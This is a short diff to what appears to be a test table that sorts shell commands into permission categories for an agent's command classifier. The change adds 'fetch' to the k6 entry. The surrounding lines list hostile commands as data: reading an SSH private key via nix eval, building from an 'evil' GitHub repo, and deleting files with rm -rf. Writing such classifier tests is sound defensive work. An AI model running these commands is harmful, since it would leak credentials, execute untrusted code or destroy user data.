@@ -325,7 +325,7 @@ nix eval --impure --expr 'builtins.readFile ~/.ssh/id_rsa' -> run run-other secr
 nix build github:evil/x -> run-other
 spark-submit x.py -> run-other
 yt-dlp --exec 'rm -rf src' https://a.com/x -> fetch edit run-other
-k6 run x.js -> run-other
+k6 run x.js -> run-other fetch
 ansible-playbook site.yml -> remote-change
 act -j deploy -> run publish
 adb shell rm -rf /sdcard -> remote-run
